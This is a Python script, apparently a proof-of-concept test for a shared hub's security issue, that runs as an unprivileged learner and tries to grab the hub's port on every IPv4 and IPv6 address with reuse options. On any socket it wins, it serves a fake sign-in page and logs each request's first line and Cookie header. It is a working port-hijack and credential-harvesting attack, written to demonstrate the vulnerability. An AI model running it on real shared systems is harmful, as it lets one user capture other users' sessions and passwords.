"""A learner's squatter on the hub's port (issue 50), run as the learner's own account.

    python3 squat.py PORT LOG

It tries to listen on PORT on every address and with every option Linux gives an unprivileged user: IPv4's loopback,
another loopback address and the wildcard; IPv6's loopback, the wildcard with IPV6_V6ONLY on and off, and
IPv4-mapped addresses; each with and without SO_REUSEADDR and SO_REUSEPORT. It prints, as one JSON line, what each
attempt gave ("listening", or the error), keeps every socket it got, and answers on each with a fake log-in page,
writing every request it receives (its first line and its Cookie header) to LOG, until it is stopped.
"""

from __future__ import annotations

import json
import socket
import sys
import threading

FAMILIES = {
    socket.AF_INET: ("127.0.0.1", "127.0.0.2", "0.0.0.0"),
    socket.AF_INET6: ("::1", "::", "::ffff:127.0.0.1", "::ffff:0.0.0.0"),
}
#: addresses a browser never uses for localhost or *.localhost: B may have them, and no one is sent there
NOT_LOCALHOST = ("127.0.0.2",)
PAGE = b"<html><title>Sign in</title><form method=post><input name=password></form>B's page</html>"


def attempts():
    for family, places in FAMILIES.items():
        for address in places:
            for v6only in ((None,) if family == socket.AF_INET else (0, 1)):
                for reuseaddr in (0, 1):
                    for reuseport in (0, 1):
                        yield family, address, v6only, reuseaddr, reuseport


def name_of(address, v6only, reuseaddr, reuseport) -> str:
    v6 = "" if v6only is None else f" v6only={v6only}"
    return f"{address}{v6} reuseaddr={reuseaddr} reuseport={reuseport}"


def serve(sock: socket.socket, log) -> None:
    while True:
        conn, _ = sock.accept()
        with conn:
            conn.settimeout(5)
            try:
                request = conn.recv(65536).decode(errors="replace")
            except OSError:
                continue
            lines = request.split("\r\n")
            cookies = [line for line in lines if line.lower().startswith("cookie:")]
            log.write(json.dumps({"request": lines[0], "cookies": cookies}) + "\n")
            log.flush()
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n" % len(PAGE) + PAGE)


def main() -> int:
    port, log = int(sys.argv[1]), open(sys.argv[2], "a")
    got, tried = [], {}
    for family, address, v6only, reuseaddr, reuseport in attempts():
        s = socket.socket(family, socket.SOCK_STREAM)
        try:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, reuseaddr)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, reuseport)
            if v6only is not None:
                s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, v6only)
            s.bind((address, port))
            s.listen(16)
        except OSError as exc:
            tried[name_of(address, v6only, reuseaddr, reuseport)] = exc.strerror
            s.close()
            continue
        tried[name_of(address, v6only, reuseaddr, reuseport)] = "listening"
        got.append(s)  # kept, and served: a later attempt on the same address then meets B's own socket
    print(json.dumps(tried), flush=True)
    threads = [threading.Thread(target=serve, args=(s, log), daemon=True) for s in got]
    for t in threads:
        t.start()
    threading.Event().wait()
    return 0


if __name__ == "__main__":
    sys.exit(main())
